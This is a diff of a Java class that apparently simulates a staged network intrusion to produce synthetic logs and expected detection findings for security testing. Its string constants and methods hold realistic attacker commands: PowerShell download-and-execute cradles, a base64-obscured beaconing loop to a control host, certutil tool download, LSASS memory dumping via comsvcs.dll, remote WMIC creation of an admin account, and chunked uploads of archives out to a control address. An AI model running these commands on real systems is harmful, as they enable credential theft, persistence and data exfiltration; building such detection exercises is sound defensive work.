@@ -9,7 +9,7 @@ import java.time.Instant;
 import java.util.Locale;
 import java.util.Random;
 
-/** The intrusion: one method a step, in the order of the README's timeline; each step names the finding that it plants. */
+/** The intrusion: one method a step, in the order of the README's timeline. A step plants the findings it should cause. */
 final class Story {
     private static final String PHISHING_HOST = "northgate-billing.example.org";
     private static final String PHISHING_ADDRESS = "203.0.113.45";
@@ -35,11 +35,11 @@ final class Story {
     private static final String STAGE_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('" + STAGE_URL + "')";
     private static final String RELAY_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('" + RELAY_URL + "')";
     private static final String CONTROL_SCRIPT = """
-            $u=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s'))
-            $w=New-Object Net.WebClient
-            $w.Headers.Add('X-Host',$env:COMPUTERNAME)
-            while($true){$w.DownloadString($u)|IEX;Start-Sleep -Seconds 90}
-            """.formatted(Payloads.base64(CONTROL_URL, StandardCharsets.UTF_8));
+        $u=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s'))
+        $w=New-Object Net.WebClient
+        $w.Headers.Add('X-Host',$env:COMPUTERNAME)
+        while($true){$w.DownloadString($u)|IEX;Start-Sleep -Seconds 90}
+        """.formatted(Payloads.base64(CONTROL_URL, StandardCharsets.UTF_8));
 
     private final Random random = new Random(317);
     private final Network network;
@@ -165,12 +165,18 @@ final class Story {
 
     private void keepInTouch(Proc control) {
         Instant end = at("13:05:00");
-        for (Instant time = at("08:40:38.1170360"); time.isBefore(end); time = time.plusMillis(86_000 + random.nextInt(9_000))) {
+        for (Instant time = at("08:40:38.1170360");
+                time.isBefore(end);
+                time = time.plusMillis(86_000 + random.nextInt(9_000))) {
             if (random.nextInt(8) == 0) {
                 ws014.resolve(time.minusMillis(40), control, CONTROL_HOST, CONTROL_ADDRESS);
             }
             ws014.connect(time, control, CONTROL_ADDRESS, 443);
-            browse(time.plusMillis(60), ws014, nora.session, script(CONTROL_URL, CONTROL_ADDRESS, 96 + random.nextInt(64)));
+            browse(
+                    time.plusMillis(60),
+                    ws014,
+                    nora.session,
+                    script(CONTROL_URL, CONTROL_ADDRESS, 96 + random.nextInt(64)));
         }
     }
 
@@ -183,7 +189,15 @@ final class Story {
         Proc certutil = ws014.start(time.plusMillis(214), shell, SYSTEM32 + "certutil.exe", download);
         fetch(time.plusMillis(655), ws014, certutil, STAGE_HOST, STAGE_ADDRESS, 80);
         Request request = new Request(
-                "GET", TOOL_URL, STAGE_ADDRESS, 200, 446_976, 214, 1_380, "application/octet-stream", "CertUtil URL Agent");
+                "GET",
+                TOOL_URL,
+                STAGE_ADDRESS,
+                200,
+                446_976,
+                214,
+                1_380,
+                "application/octet-stream",
+                "CertUtil URL Agent");
         browse(time.plusMillis(770), ws014, nora.session, request);
         ws014.createFile(time.plusMillis(2_190), certutil, TOOL);
         ws014.exit(time.plusMillis(2_260), certutil);
@@ -194,7 +208,9 @@ final class Story {
                 .name(TOOL)
                 .url(TOOL_URL)
                 .technique("T1105");
-        expected.plant("ti-hash", "local TI hit", time.plusMillis(2_391)).host(ws014).hash(Program.sha256(TOOL).toLowerCase(Locale.ROOT));
+        expected.plant("ti-hash", "local TI hit", time.plusMillis(2_391))
+                .host(ws014)
+                .hash(Program.sha256(TOOL).toLowerCase(Locale.ROOT));
         return tool;
     }
 
@@ -243,7 +259,8 @@ final class Story {
         Instant time = at("09:14:25.3381640");
         Proc lsass = network.ws014.lsass;
         String dump = "C:\\Users\\Public\\w.dmp";
-        String command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump " + lsass.pid() + " " + dump + " full";
+        String command =
+                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump " + lsass.pid() + " " + dump + " full";
         Proc rundll = ws014.start(time, tool, SYSTEM32 + "rundll32.exe", command);
         ws014.loadImage(time.plusMillis(96), rundll, SYSTEM32 + "comsvcs.dll");
         String trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
@@ -282,8 +299,8 @@ final class Story {
         Instant time = at("09:44:12.4602280");
         String user = "lm_support";
         String command = "net1 user " + user + " Winter-2026! /add & net1 localgroup Administrators " + user + " /add";
-        String wmic = "wmic.exe /node:" + fs01.name() + " /user:" + admin.account() + " process call create \"cmd.exe /c "
-                + command + "\"";
+        String wmic = "wmic.exe /node:" + fs01.name() + " /user:" + admin.account()
+                + " process call create \"cmd.exe /c " + command + "\"";
         Proc client = ws014.start(time, tool, SYSTEM32 + "wbem\\WMIC.exe", wmic);
         ws014.connect(time.plusMillis(402), client, fs01.address(), 135);
         Session session = Network.domainSession(admin.user(), 1203, 0x52e711c, 0, "High");
@@ -299,7 +316,11 @@ final class Story {
         String sid = localSid(1007);
         fs01.start(created, shell, SYSTEM32 + "net1.exe", "net1 user " + user + " Winter-2026! /add");
         fs01.log(SecurityEvents.userCreated(created.plusMillis(54), fs01, session, user, sid));
-        fs01.start(created.plusMillis(190), shell, SYSTEM32 + "net1.exe", "net1 localgroup Administrators " + user + " /add");
+        fs01.start(
+                created.plusMillis(190),
+                shell,
+                SYSTEM32 + "net1.exe",
+                "net1 localgroup Administrators " + user + " /add");
         fs01.log(SecurityEvents.addedToAdministrators(created.plusMillis(233), fs01, session, sid));
         ws014.exit(created.plusMillis(640), client);
         expected.plant("new-user", "new service, task or user", created)
@@ -355,7 +376,15 @@ final class Story {
             fs01.createFile(time.plusSeconds(95L * part), packer, "C:\\ProgramData\\f.part" + part + ".rar");
             fetch(upload, fs01, powershell, host, CONTROL_ADDRESS, 443);
             Request request = new Request(
-                    "PUT", "https://" + host + "/u/" + part, CONTROL_ADDRESS, 201, 187, 83_886_080 - random.nextInt(4_096), 241_000, "text/plain", "-");
+                    "PUT",
+                    "https://" + host + "/u/" + part,
+                    CONTROL_ADDRESS,
+                    201,
+                    187,
+                    83_886_080 - random.nextInt(4_096),
+                    241_000,
+                    "text/plain",
+                    "-");
             browse(upload.plusMillis(310), fs01, network.fs01.system, request);
             upload = upload.plusMillis(290_000 + random.nextInt(40_000));
         }
